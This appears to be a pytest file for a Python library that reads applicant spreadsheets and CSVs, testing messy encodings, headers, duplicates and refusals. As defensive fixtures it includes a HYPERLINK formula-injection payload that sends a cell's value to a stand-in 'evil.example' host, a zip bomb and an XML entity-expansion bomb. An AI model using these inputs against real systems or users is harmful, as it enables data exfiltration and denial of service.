"""read_rows over a corpus of hostile and messy inputs, each built in tmp_path, each with its exact result."""

from __future__ import annotations

import datetime as dt
import re
import warnings
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from skillhire.errors import (
    InvalidFileError,
    MissingColumnError,
    SkillhireError,
    SkillhireWarning,
    UnknownNameError,
    UnsafeFileError,
)
from skillhire.safety import ReadLimits, file_sha256, inspect_file
from skillhire.spreadsheets import (
    _COMMON_HEADER_WORDS,
    SheetRow,
    _header_words,
    column_letter,
    iter_rows,
    normalise_header,
    read_rows,
)

COLUMNS = ["applicant_id", "first_name", "last_name", "email", "veterans_preference"]
ALIASES = {
    "applicant_id": ["Application Number", "Applicant #"],
    "last_name": ["Applicant Last Name", "Surname"],
}
ENGINES = ["calamine", "openpyxl"]


def make_xlsx(
    path: Path, rows: list[list[object]], *, title: str = "Applicants", merge: str | None = None
) -> Path:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    if merge:
        sheet.merge_cells(merge)
    workbook.save(path)
    return path


def rewrite_part(path: Path, part: str, change) -> None:
    """Rewrite one XML part of a workbook in place (the fixture's own file, never a user's)."""
    with zipfile.ZipFile(path) as archive:
        items = [(info, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in items:
            archive.writestr(info.filename, change(data) if info.filename == part else data)


def with_prolog(data: bytes, prolog: bytes) -> bytes:
    """Put ``prolog`` (a DTD, comments) between a part's XML declaration, if any, and its root element."""
    if data.startswith(b"<?xml"):
        declaration, rest = data.split(b"?>", 1)
        return declaration + b"?>" + prolog + rest
    return prolog + data


def values(result) -> list[tuple[int, dict]]:
    return [(row.row, row.values) for row in result.rows]


# ----------------------------------------------------------------------------------- small helpers


@pytest.mark.parametrize(
    "header, expected",
    [
        ("Applicant ID", "applicantid"),
        ("  applicant_id ", "applicantid"),
        ("APPLICANT-ID.", "applicantid"),
        ("Vet. Pref (code)", "vetprefcode"),
        ("Número", "número"),
        ("", ""),
    ],
)
def test_normalise_header(header: str, expected: str) -> None:
    assert normalise_header(header) == expected


@pytest.mark.parametrize(
    "index, letter", [(0, "A"), (1, "B"), (25, "Z"), (26, "AA"), (27, "AB"), (701, "ZZ"), (702, "AAA")]
)
def test_column_letter(index: int, letter: str) -> None:
    assert column_letter(index) == letter


# ----------------------------------------------------------------------------------- messy but valid


@pytest.mark.parametrize("engine", ENGINES)
def test_title_rows_merged_title_blank_rows_and_trailing_spaces(tmp_path: Path, engine: str) -> None:
    path = make_xlsx(
        tmp_path / "pool.xlsx",
        [
            ["Pooled hiring action 2026-CX-01", None, None, None],
            ["Exported 2026-11-02", None, None, None],
            [None, None, None, None],
            [" Application Number ", "First Name", "Applicant Last Name", "Email  "],
            ["A-001", " Ann ", "Lee", "ann@example.gov "],
            [None, None, None, None],
            ["A-002", "Bo", "Diaz", None],
            ["   ", None, None, None],
            ["A-003", "Cy", "Ng", "cy@example.gov"],
        ],
        merge="A1:D1",
    )
    result = read_rows(path, columns=COLUMNS, required=["applicant_id"], aliases=ALIASES, engine=engine)
    assert (result.sheet, result.header_row, result.reader) == ("Applicants", 4, engine)
    assert result.headers == {
        "applicant_id": "Application Number",
        "first_name": "First Name",
        "last_name": "Applicant Last Name",
        "email": "Email",
    }
    assert values(result) == [
        (5, {"applicant_id": "A-001", "first_name": "Ann", "last_name": "Lee", "email": "ann@example.gov"}),
        (7, {"applicant_id": "A-002", "first_name": "Bo", "last_name": "Diaz", "email": None}),
        (9, {"applicant_id": "A-003", "first_name": "Cy", "last_name": "Ng", "email": "cy@example.gov"}),
    ]
    assert result.counts.model_dump() == {"rows_read": 3, "rows_kept": 3, "rows_rejected": 0, "blank_rows": 2}
    assert result.sha256 == file_sha256(path)


def test_merged_header_cell_keeps_the_data_under_the_second_column_letter(tmp_path: Path) -> None:
    path = make_xlsx(
        tmp_path / "merged.xlsx",
        [["applicant_id", "Name", None, "Email"], ["A-1", "Ann", "Lee", "a@x.gov"]],
        merge="B1:C1",
    )
    result = read_rows(path, columns=COLUMNS, required=["applicant_id"])
    assert result.headers == {
        "applicant_id": "applicant_id",
        "Name": "Name",
        "column C": "",
        "email": "Email",
    }
    assert values(result) == [
        (2, {"applicant_id": "A-1", "Name": "Ann", "column C": "Lee", "email": "a@x.gov"})
    ]


@pytest.mark.parametrize(
    "engine, expected_date",
    [("calamine", dt.date(2026, 3, 9)), ("openpyxl", dt.datetime(2026, 3, 9))],
)
def test_cell_types_numbers_as_text_dates_and_serials(
    tmp_path: Path, engine: str, expected_date: object
) -> None:
    path = make_xlsx(
        tmp_path / "types.xlsx",
        [
            ["applicant_id", "score", "applied", "serial", "zip", "flag"],
            ["00123", 85.0, dt.date(2026, 3, 9), 46090, "02134", True],
            [456, "85", None, 46090.5, 2134, False],
        ],
    )
    result = read_rows(path, required=["applicant_id"], engine=engine)
    assert values(result) == [
        (
            2,
            {
                "applicant_id": "00123",
                "score": 85,
                "applied": expected_date,
                "serial": 46090,
                "zip": "02134",
                "flag": True,
            },
        ),
        (
            3,
            {
                "applicant_id": 456,
                "score": "85",
                "applied": None,
                "serial": 46090.5,
                "zip": 2134,
                "flag": False,
            },
        ),
    ]
    assert type(result.rows[0]["score"]) is int


def test_formulas_read_as_their_saved_value_or_empty(tmp_path: Path) -> None:
    path = tmp_path / "formulas.xlsx"
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet("Applicants")
    sheet.write_row(0, 0, ["applicant_id", "total", "never_calculated"])
    sheet.write_string(1, 0, "A-1")
    sheet.write_formula(1, 1, "=40+45", None, 85)
    sheet.write_formula(1, 2, "=1+1")  # xlsxwriter saves 0 unless told the value
    book.close()
    result = read_rows(path, required=["applicant_id"])
    assert values(result) == [(2, {"applicant_id": "A-1", "total": 85, "never_calculated": 0})]
    # openpyxl saves no value at all for a formula: read as empty, never as the formula's text
    # (and the readers say so: an empty cell can mean something, an empty veterans' preference is "none")
    make_xlsx(tmp_path / "f2.xlsx", [["applicant_id", "total"], ["A-1", "=SUM(1,2)"]])
    warning = ("f2.xlsx (sheet Applicants): 1 cell(s) hold a formula with no saved value or an error result such as "
               "#REF! or #N/A (B2) and read as empty; fix the formulas, then open the workbook in Excel and save it so "
               "they are calculated")  # fmt: skip
    with pytest.warns(SkillhireWarning) as caught:
        assert values(read_rows(tmp_path / "f2.xlsx")) == [(2, {"applicant_id": "A-1", "total": None})]
    assert [str(w.message) for w in caught] == [warning]
    with pytest.warns(SkillhireWarning) as caught:
        assert [row.values for row, _ in iter_rows(tmp_path / "f2.xlsx")] == [{"applicant_id": "A-1", "total": None}]
    assert [str(w.message) for w in caught] == [warning]


def test_formula_injection_payload_is_read_as_plain_text(tmp_path: Path) -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    path = tmp_path / "inject.csv"
    path.write_text(
        f'applicant_id,first_name\nA-1,"{payload.replace(chr(34), chr(34) * 2)}"\n', encoding="utf-8"
    )
    assert values(read_rows(path)) == [(2, {"applicant_id": "A-1", "first_name": payload})]


@pytest.mark.parametrize(
    "name, content, expected_rows, expected_encoding",
    [
        ("header only", "applicant_id,email\n", [], "utf-8"),
        (
            "one row",
            "applicant_id,email\nA-1,a@x.gov\n",
            [(2, {"applicant_id": "A-1", "email": "a@x.gov"})],
            "utf-8",
        ),
        (
            "no final newline",
            "applicant_id,email\r\nA-1,a@x.gov",
            [(2, {"applicant_id": "A-1", "email": "a@x.gov"})],
            "utf-8",
        ),
        (
            "quoted newline",
            'applicant_id,note\nA-1,"two\nlines"\nA-2,x\n',
            [(2, {"applicant_id": "A-1", "note": "two\nlines"}), (3, {"applicant_id": "A-2", "note": "x"})],
            "utf-8",
        ),
        (
            "row longer than header",
            "applicant_id\nA-1,extra\n",
            [(2, {"applicant_id": "A-1", "column B": "extra"})],
            "utf-8",
        ),
    ],
)
def test_csv_table(
    tmp_path: Path, name: str, content: str, expected_rows: list, expected_encoding: str
) -> None:
    path = tmp_path / "rows.csv"
    path.write_text(content, encoding="utf-8", newline="")
    result = read_rows(path, required=["applicant_id"])
    assert values(result) == expected_rows
    assert (result.sheet, result.encoding, result.counts.rows_read) == (
        "rows.csv",
        expected_encoding,
        len(expected_rows),
    )


@pytest.mark.parametrize(
    "raw, expected_encoding",
    [
        ("applicant_id,last_name\nA-1,Muñoz\nA-2,Zoë\n".encode(), "utf-8"),
        (b"\xef\xbb\xbf" + "applicant_id,last_name\nA-1,Muñoz\nA-2,Zoë\n".encode(), "utf-8-sig"),
        ("applicant_id,last_name\nA-1,Muñoz\nA-2,Zoë\n".encode("cp1252"), "cp1252"),
        ("applicant_id,last_name\nA-1,Muñoz\nA-2,Zoë\n".encode("utf-16"), "utf-16"),
    ],
)
def test_csv_encodings(tmp_path: Path, raw: bytes, expected_encoding: str) -> None:
    path = tmp_path / "names.csv"
    path.write_bytes(raw)
    result = read_rows(path, required=["applicant_id"])
    assert result.encoding == expected_encoding
    assert result.headers == {"applicant_id": "applicant_id", "last_name": "last_name"}
    assert values(result) == [
        (2, {"applicant_id": "A-1", "last_name": "Muñoz"}),
        (3, {"applicant_id": "A-2", "last_name": "Zoë"}),
    ]


def test_mixed_encodings_decode_each_line_and_warn(tmp_path: Path) -> None:
    path = tmp_path / "mixed.csv"
    path.write_bytes("applicant_id,last_name\nA-1,Muñoz\n".encode() + "A-2,Zoë\n".encode("cp1252"))
    with pytest.warns(SkillhireWarning, match=r"mixed text encodings: 1 line\(s\) were Windows-1252"):
        result = read_rows(path)
    assert result.encoding == "utf-8+cp1252"
    assert values(result) == [
        (2, {"applicant_id": "A-1", "last_name": "Muñoz"}),
        (3, {"applicant_id": "A-2", "last_name": "Zoë"}),
    ]


@pytest.mark.parametrize(
    "suffix, text",
    [
        (".tsv", "applicant_id\temail\nA-1\ta@x.gov\n"),
        (".csv", "applicant_id;email\nA-1;a@x.gov\n"),
        (".csv", "applicant_id|email\nA-1|a@x.gov\n"),
    ],
)
def test_delimiters(tmp_path: Path, suffix: str, text: str) -> None:
    path = tmp_path / f"rows{suffix}"
    path.write_text(text, encoding="utf-8")
    assert values(read_rows(path)) == [(2, {"applicant_id": "A-1", "email": "a@x.gov"})]



@pytest.mark.parametrize(
    "text, expected",
    [
        # a line break inside a quoted cell is an error for the delimiters that do not quote it: it rules them
        # out instead of ending the read (it was a raw _csv.Error from the delimiter sniffing)
        ('applicant_id,email\nA-1,"\r"\nA-2,b@x.gov\n', [(2, {"applicant_id": "A-1", "email": None}),
                                                          (3, {"applicant_id": "A-2", "email": "b@x.gov"})]),
        ('applicant_id;email\nA-1;"a@x.gov\r"\n', [(2, {"applicant_id": "A-1", "email": "a@x.gov"})]),
        ('applicant_id,notes\nA-1,"line one\rline two"\n', [(2, {"applicant_id": "A-1", "notes": "line one\rline two"})]),
    ],
)
def test_quoted_line_breaks_do_not_stop_the_delimiter_sniffing(tmp_path: Path, text: str, expected: list) -> None:
    path = tmp_path / "rows.csv"
    path.write_bytes(text.encode("utf-8"))
    assert values(read_rows(path)) == expected


def test_a_file_no_delimiter_splits_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "rows.csv"
    path.write_bytes(b'applicant_id,email\nA-1,a@x.gov\rb\n')  # a bare carriage return inside an unquoted cell
    with pytest.raises(InvalidFileError, match=r"row \d+: not valid"):
        read_rows(path)

@pytest.mark.parametrize(
    "text, expected",
    [
        # a quote that never closes would swallow every row after it into one cell: the file is refused, with
        # the row the quote opens on (csv.reader alone, not strict, ends the cell at the end of the file)
        ('applicant_id,name\nA-1,"Ann\nA-2,Bob\nA-3,Cy\n', "row 2: a quoted cell opens on this row and never "
         "closes, so the rest of the file (3 lines) would be one cell"),
        ('applicant_id,name\nA-1,Ann\nA-2,Bob\nA-3,"Cy\n\n', "row 4: a quoted cell opens on this row and never "
         "closes, so the rest of the file (2 lines) would be one cell"),
        ('applicant_id;name\nA-1;Ann\nA-2;"Bob;x\nA-3;Cy\n', "row 3: a quoted cell opens"),
    ],
)
def test_a_quote_that_never_closes_is_refused_with_its_row(tmp_path: Path, text: str, expected: str) -> None:
    path = tmp_path / "rows.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InvalidFileError, match=re.escape(expected)):
        read_rows(path)


@pytest.mark.parametrize(
    "text, expected",
    [
        # near misses: line breaks inside quotes that do close, anywhere in the file, are text of their cell
        ('applicant_id,name\nA-1,"Ann\nSmith"\nA-2,Bob\n', [(2, {"applicant_id": "A-1", "name": "Ann\nSmith"}),
                                                             (3, {"applicant_id": "A-2", "name": "Bob"})]),
        ('applicant_id,name\nA-1,Ann\nA-2,"Bob\n\nJones"\n', [(2, {"applicant_id": "A-1", "name": "Ann"}),
                                                                (3, {"applicant_id": "A-2", "name": "Bob\n\nJones"})]),
        ('applicant_id,name\nA-1,"Ann ""the"" 2nd\nline"\n', [(2, {"applicant_id": "A-1", "name": 'Ann "the" 2nd\nline'})]),
    ],
)
def test_quoted_line_breaks_that_close_are_kept(tmp_path: Path, text: str, expected: list) -> None:
    path = tmp_path / "rows.csv"
    path.write_text(text, encoding="utf-8")
    assert values(read_rows(path)) == expected


def test_column_map_and_extra_columns(tmp_path: Path) -> None:
    path = tmp_path / "map.csv"
    path.write_text("Cand No,Mail,Race/Ethnicity\nA-1,a@x.gov,Asian\n", encoding="utf-8")
    result = read_rows(
        path,
        columns=COLUMNS,
        required=["applicant_id"],
        column_map={"cand no": "applicant_id", "Mail": "email"},
    )
    assert result.headers == {"applicant_id": "Cand No", "email": "Mail", "Race/Ethnicity": "Race/Ethnicity"}
    assert values(result) == [(2, {"applicant_id": "A-1", "email": "a@x.gov", "Race/Ethnicity": "Asian"})]


def test_in_memory_rows() -> None:
    result = read_rows(
        [{"Applicant ID": "A-1", "Email": None}, {"Applicant ID": "A-2", "Email": "b@x.gov"}], columns=COLUMNS
    )
    assert values(result) == [
        (2, {"applicant_id": "A-1", "email": None}),
        (3, {"applicant_id": "A-2", "email": "b@x.gov"}),
    ]
    assert (result.source, result.reader, result.sha256) == ("<rows>", "rows", None)
    assert read_rows([], required=["applicant_id"]).counts.rows_read == 0


# ------------------------------------------------------------------------------ row errors and counts


def test_duplicate_ids_reject_every_row_sharing_the_id(tmp_path: Path) -> None:
    path = tmp_path / "dups.csv"
    path.write_text(
        "applicant_id,email\nA-1,a@x.gov\nA-2,b@x.gov\na-1 ,c@x.gov\nA-1,d@x.gov\n", encoding="utf-8"
    )
    result = read_rows(path, required=["applicant_id"], unique=["applicant_id"])
    assert [row.row for row in result.rows] == [3]
    assert [row.row for row in result.rejected] == [2, 4, 5]
    assert [str(error) for error in result.errors] == [
        "dups.csv, row 2, column 'applicant_id': duplicate applicant_id: the same value is on row(s) 4, 5; every row sharing it is rejected",
        "dups.csv, row 4, column 'applicant_id': duplicate applicant_id: the same value is on row(s) 2, 5; every row sharing it is rejected",
        "dups.csv, row 5, column 'applicant_id': duplicate applicant_id: the same value is on row(s) 2, 4; every row sharing it is rejected",
    ]
    assert result.counts.model_dump() == {"rows_read": 4, "rows_kept": 1, "rows_rejected": 3, "blank_rows": 0}


def test_empty_required_value_rejects_the_row(tmp_path: Path) -> None:
    path = make_xlsx(tmp_path / "gaps.xlsx", [["applicant_id", "email"], [None, "a@x.gov"], ["A-2", None]])
    result = read_rows(path, required=["applicant_id"])
    assert [str(error) for error in result.errors] == [
        "Applicants, row 2, column 'applicant_id': required value is empty"
    ]
    assert [(r.row, r.values) for r in result.rejected] == [(2, {"applicant_id": None, "email": "a@x.gov"})]
    assert values(result) == [(3, {"applicant_id": "A-2", "email": None})]


# ----------------------------------------------------------------------------------------- refusals


@pytest.mark.parametrize(
    "name, content, error, message",
    [
        ("empty.xlsx", b"", InvalidFileError, "empty.xlsx: is empty (0 bytes)"),
        ("empty.csv", b"", InvalidFileError, "empty.csv: is empty (0 bytes)"),
        ("blank.csv", b"\n\n ,\n", InvalidFileError, "blank.csv: has no rows at all (no header row)"),
        (
            "locked.xlsx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
            InvalidFileError,
            "locked.xlsx: is password-protected (encrypted) or an old .xls workbook; remove the password or save it as a plain .xlsx and try again",
        ),
        (
            "corrupt.xlsx",
            b"PK\x03\x04" + b"\x00garbage" * 20,
            InvalidFileError,
            "corrupt.xlsx: is corrupt: not a readable zip archive (File is not a zip file)",
        ),
        (
            "text.xlsx",
            b"applicant_id,email\nA-1,a@x.gov\n",
            InvalidFileError,
            "text.xlsx: is not an Excel workbook: its content is text (perhaps a CSV file: rename it to .csv)",
        ),
        (
            "zipped.csv",
            b"PK\x03\x04rest",
            InvalidFileError,
            "zipped.csv: is a zip archive (perhaps an Excel workbook: rename it to .xlsx), not csv text",
        ),
        (
            "old.xls",
            b"\xd0\xcf\x11\xe0",
            InvalidFileError,
            "old.xls: unsupported file type '.xls' (the old Excel 97-2003 format: open it in Excel and save it as .xlsx); supported: .csv, .tsv, .xlsm, .xlsx",
        ),
        (
            "list.txt",
            b"a,b\n",
            InvalidFileError,
            "list.txt: unsupported file type '.txt' (if it is comma- or tab-separated, rename it to .csv or .tsv); supported: .csv, .tsv, .xlsm, .xlsx",
        ),
    ],
)
def test_bad_files_raise_one_clear_error(
    tmp_path: Path, name: str, content: bytes, error: type, message: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(error) as caught:
        read_rows(path)
    assert str(caught.value) == str(tmp_path / message)
    assert isinstance(caught.value, SkillhireError)


def test_missing_file_and_folder(tmp_path: Path) -> None:
    with pytest.raises(InvalidFileError, match="does not exist"):
        read_rows(tmp_path / "nope.xlsx")
    with pytest.raises(InvalidFileError, match="is a folder"):
        read_rows(tmp_path)


def test_zip_without_workbook(tmp_path: Path) -> None:
    path = tmp_path / "notes.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("notes.txt", "hello")
    with pytest.raises(
        InvalidFileError, match=r"is a zip archive but not an Excel workbook \(no xl/workbook.xml\)"
    ):
        read_rows(path)


def test_corrupt_sheet_inside_a_valid_archive(tmp_path: Path) -> None:
    path = make_xlsx(tmp_path / "broken.xlsx", [["applicant_id"], ["A-1"]])
    rewrite_part(path, "xl/worksheets/sheet1.xml", lambda data: data[: len(data) // 2])
    with pytest.raises(InvalidFileError, match=r"broken.xlsx: sheet 'Applicants' is corrupt or unreadable"):
        read_rows(path)


def test_missing_required_column_names_the_accepted_and_found_headers(tmp_path: Path) -> None:
    path = tmp_path / "cols.csv"
    path.write_text("ID,Mail\nA-1,a@x.gov\n", encoding="utf-8")
    with pytest.raises(MissingColumnError) as caught:
        read_rows(path, columns=COLUMNS, required=["applicant_id"], aliases=ALIASES)
    assert str(caught.value) == (
        f"{path}: missing required column 'applicant_id' (headers accepted: applicant_id, Application Number, "
        "Applicant #); headers found: ID, Mail; map a header with column_map (--column-map)"
    )


_ACCEPTED = "(headers accepted: applicant_id, Application Number, Applicant #)"


# With no known header in the row, a cell is echoed only when it is made of header words: a row of names is the
# first applicant of a file whose header row is missing, and errors never carry applicant data.
@pytest.mark.parametrize("header_row, found", [
    ("ID,Mail", "headers found: ID, Mail"),
    ("ApplicantNo,SubmittedDate,Q1",
     "headers found: ApplicantNo, SubmittedDate and 1 other cell not shown (no header skillhire knows is in the row, "
     "so it may be an applicant's data)"),
    ("Alex,Haddad,Hispanic,F,White,CPS",
     "no cell of the header row is a header skillhire knows (its 6 cells are not shown: the row may be an "
     "applicant's data)"),
    ("Record ID,Alex",
     "headers found: Record ID and 1 other cell not shown (no header skillhire knows is in the row, so it may be "
     "an applicant's data)"),
    ("Haddad", "no cell of the header row is a header skillhire knows (its 1 cell is not shown: the row may be an "
     "applicant's data)"),
    # a row with one known header is a header row: every cell is shown
    ("email,Alex,Haddad", "headers found: email, Alex, Haddad"),
    # an email address or a bare number: the first data row, nothing shown
    ("Alex,alex@example.org",
     "no cell of the header row is a header skillhire knows, so the header row may be missing (its 2 cells are not "
     "shown: they may be applicant data)"),
])
def test_missing_column_never_echoes_a_row_of_names(tmp_path: Path, header_row: str, found: str) -> None:
    path = tmp_path / "cols.csv"
    path.write_text(f"{header_row}\nA-1{',x' * header_row.count(',')}\n", encoding="utf-8")
    with pytest.raises(MissingColumnError) as caught:
        read_rows(path, columns=COLUMNS, required=["applicant_id"], aliases=ALIASES)
    assert str(caught.value) == (
        f"{path}: missing required column 'applicant_id' {_ACCEPTED}; {found}; map a header with column_map "
        "(--column-map)"
    )


_NAMES = st.text(alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", min_size=2, max_size=12).filter(
    lambda name: name.casefold() not in {"id", "no", "or", "on", "to", "in", "of", "a", "e", "mail", "email"})


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(_NAMES, min_size=1, max_size=6, unique_by=str.casefold))
def test_a_row_of_names_is_never_echoed(tmp_path: Path, names: list[str]) -> None:
    path = tmp_path / "names.csv"
    path.write_text(",".join(["Record ID", *names]) + "\n" + ",".join(["A-1"] * (len(names) + 1)) + "\n",
                    encoding="utf-8")
    with pytest.raises(MissingColumnError) as caught:
        read_rows(path, columns=["applicant_id"], required=["applicant_id"])
    message = str(caught.value).split("headers accepted: applicant_id)", 1)[1]
    shown = message.split("headers found: ", 1)[1].split(" and ", 1)[0].split("; ", 1)[0].split(", ") \
        if "headers found: " in message else []
    for name in names:  # a cell is shown only when made of header words ("SERIEsSOURCE": series, source)
        assert name not in shown or all(word in _COMMON_HEADER_WORDS for word in _header_words(name))


# column_map's target: a column's name, or a name of the user's own (an extra column renamed); a name a letter or two
# from a column's is a typo that would leave the meant column unread, so it is refused with the valid names
@pytest.mark.parametrize("target, error", [
    ("first_name", None),
    ("nickname", None),
    ("frist_name", "No column to map to 'frist_name'. Did you mean 'first_name'?"),
    ("First Name", "No column to map to 'First Name'. Did you mean 'first_name'?"),
    ("last_nme", "No column to map to 'last_nme'. Did you mean 'last_name'?"),
    ("emails", "No column to map to 'emails'. Did you mean 'email'?"),
])
def test_column_map_target_close_to_a_column_is_a_typo(tmp_path: Path, target: str, error: str | None) -> None:
    path = tmp_path / "cols.csv"
    path.write_text("ID,Given\nA-1,Al\n", encoding="utf-8")
    column_map = {"ID": "applicant_id", "Given": target}
    if error is None:
        assert read_rows(path, columns=COLUMNS, required=["applicant_id"], column_map=column_map).rows[0].values == {
            "applicant_id": "A-1", target: "Al"}
        return
    with pytest.raises(UnknownNameError) as caught:
        read_rows(path, columns=COLUMNS, required=["applicant_id"], column_map=column_map)
    assert str(caught.value) == (
        f"{error} Available: applicant_id, email, first_name, last_name, veterans_preference; column_map "
        "(--column-map HEADER=COLUMN) maps a header to one of these names, or to a name of your own that is not "
        "close to one"
    )


def test_column_map_naming_an_absent_header(tmp_path: Path) -> None:
    path = tmp_path / "cols.csv"
    path.write_text("ID,Mail\nA-1,a@x.gov\n", encoding="utf-8")
    with pytest.raises(
        MissingColumnError,
        match=r"column_map names header\(s\) 'Cand No' that the header row does not have; headers found: ID, Mail",
    ):
        read_rows(path, column_map={"Cand No": "applicant_id"})


def test_two_headers_matching_one_column(tmp_path: Path) -> None:
    path = tmp_path / "twice.csv"
    path.write_text("Applicant ID,applicant_id\nA-1,A-1\n", encoding="utf-8")
    with pytest.raises(InvalidFileError, match=r"columns A and B both match column 'applicant_id'"):
        read_rows(path, columns=COLUMNS)


def test_sheets_unknown_name_and_automatic_choice(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active.title = "Read me"
    workbook.active.append(["This workbook lists applicants on the next sheet."])
    data = workbook.create_sheet("Applicants")
    data.append(["applicant_id"])
    data.append(["A-1"])
    workbook.save(path)
    assert read_rows(path, required=["applicant_id"]).sheet == "Applicants"
    assert values(read_rows(path, sheet=1)) == [(2, {"applicant_id": "A-1"})]
    assert read_rows(path, sheet=" applicants").sheet == "Applicants"
    with pytest.raises(UnknownNameError) as caught:
        read_rows(path, sheet="Scores")
    assert str(caught.value) == "No sheet 'Scores' in book.xlsx. Available: Applicants, Read me"
    with pytest.raises(UnknownNameError) as caught:
        read_rows(path, sheet=2)
    assert str(caught.value) == "No sheet index 2 in book.xlsx. Available: 0, 1"
    with pytest.raises(MissingColumnError, match=r"\(sheets searched: Read me, Applicants\)"):
        read_rows(path, required=["email"])


def test_unknown_engine(tmp_path: Path) -> None:
    with pytest.raises(
        UnknownNameError, match=re.escape("No spreadsheet engine 'pandas'. Available: calamine, openpyxl")
    ):
        read_rows(tmp_path / "x.csv", engine="pandas")  # type: ignore[arg-type]


@pytest.mark.parametrize("engine", ENGINES)
def test_wrong_dimension_never_gives_a_short_read(tmp_path: Path, engine: str) -> None:
    rows = [["applicant_id", "score"]] + [[f"A-{i}", i] for i in range(1, 51)]
    path = make_xlsx(tmp_path / "dimension.xlsx", rows)
    rewrite_part(
        path,
        "xl/worksheets/sheet1.xml",
        lambda data: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:B2"', data),
    )
    # the trap is real: openpyxl's read-only mode, left alone, trusts the tag and stops after 2 rows
    naive = openpyxl.load_workbook(path, read_only=True)
    assert len(list(naive.active.iter_rows(values_only=True))) == 2
    naive.close()
    result = read_rows(path, required=["applicant_id"], engine=engine)
    assert result.counts.rows_read == 50
    assert (result.rows[-1].row, result.rows[-1].values) == (51, {"applicant_id": "A-50", "score": 50})


def test_zip_bomb_ratio_is_refused_before_reading(tmp_path: Path) -> None:
    path = make_xlsx(tmp_path / "bomb.xlsx", [["applicant_id"], ["A-1"]])
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.bin", b"\x00" * (8 << 20))
    with pytest.raises(UnsafeFileError) as caught:
        read_rows(path)
    assert re.fullmatch(
        r".*bomb.xlsx: part xl/media/padding.bin expands [\d,]+ times \([\d.]+ KiB to 8.0 MiB\), past the limit of 250 "
        r"\(a zip bomb; ReadLimits.max_compression_ratio\)",
        str(caught.value),
    )


def test_declared_size_over_the_limit_is_refused(tmp_path: Path) -> None:
    path = make_xlsx(tmp_path / "big.xlsx", [["applicant_id"], ["A-1"]])
    with pytest.raises(
        UnsafeFileError, match=r"declares [\d.]+ KiB uncompressed, more than the 1.0 KiB limit"
    ):
        read_rows(path, limits=ReadLimits(max_uncompressed_bytes=1024))


def test_xml_entity_expansion_is_refused(tmp_path: Path) -> None:
    path = make_xlsx(tmp_path / "lol.xlsx", [["applicant_id"], ["A-1"]])
    bomb = (
        b"\n<!-- a long comment to push the declaration past a fixed-size look "
        + b"x" * 5000
        + b' -->\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
    )
    rewrite_part(path, "xl/worksheets/sheet1.xml", lambda data: with_prolog(data, bomb))
    with pytest.raises(
        UnsafeFileError, match=r"part xl/worksheets/sheet1.xml has an XML document type declaration"
    ):
        read_rows(path)


def test_openpyxl_entity_refusal_also_becomes_a_skillhire_error(tmp_path: Path) -> None:
    """Defence in depth: were the prolog check bypassed, defusedxml's refusal still becomes InvalidFileError."""
    from skillhire.spreadsheets import _openpyxl_tables

    path = make_xlsx(tmp_path / "lol.xlsx", [["applicant_id"], ["A-1"]])
    rewrite_part(
        path, "xl/worksheets/sheet1.xml", lambda data: with_prolog(data, b'<!DOCTYPE w [<!ENTITY a "b">]>')
    )
    with pytest.raises(
        InvalidFileError,
        match=r"has XML entity declarations, refused as a possible XML bomb \((EntitiesForbidden|DTDForbidden)\)",
    ):
        for _, rows in _openpyxl_tables(path, None):
            list(rows)


def test_row_cap_refuses_rather_than_cuts(tmp_path: Path) -> None:
    path = tmp_path / "many.csv"
    path.write_text("applicant_id\n" + "".join(f"A-{i}\n" for i in range(12)), encoding="utf-8")
    assert read_rows(path, max_rows=12).counts.rows_read == 12
    with pytest.raises(
        UnsafeFileError,
        match=r"many.csv: has more than 11 data rows \(ReadLimits.max_rows / max_rows\); refused",
    ):
        read_rows(path, max_rows=11)


def test_declared_dimension_over_the_row_cap_is_refused_before_reading(tmp_path: Path) -> None:
    path = make_xlsx(tmp_path / "tall.xlsx", [["applicant_id"], ["A-1"]])
    rewrite_part(
        path,
        "xl/worksheets/sheet1.xml",
        lambda data: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:A5000000"', data),
    )
    with pytest.raises(UnsafeFileError, match=r"declares 5,000,000 rows, more than the limit of 2,000,000"):
        inspect_file(path)


def test_input_is_never_modified(tmp_path: Path) -> None:
    path = make_xlsx(tmp_path / "keep.xlsx", [["applicant_id"], ["A-1"]])
    before = (path.read_bytes(), path.stat().st_mtime_ns)
    path.chmod(0o444)
    read_rows(path, engine="calamine")
    read_rows(path, engine="openpyxl")
    assert (path.read_bytes(), path.stat().st_mtime_ns) == before


# ----------------------------------------------------------------------------------------- properties

cell_text = (
    st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=20)
    .map(str.strip)
    .filter(bool)
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(table=st.lists(st.lists(st.one_of(st.none(), cell_text), min_size=3, max_size=3), max_size=8))
def test_rows_read_equal_rows_kept_plus_rejected(tmp_path: Path, table: list[list[str | None]]) -> None:
    import csv

    path = tmp_path / "prop.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["applicant_id", "b", "c"])
        writer.writerows(table)
    result = read_rows(path, required=["applicant_id"], unique=["applicant_id"])
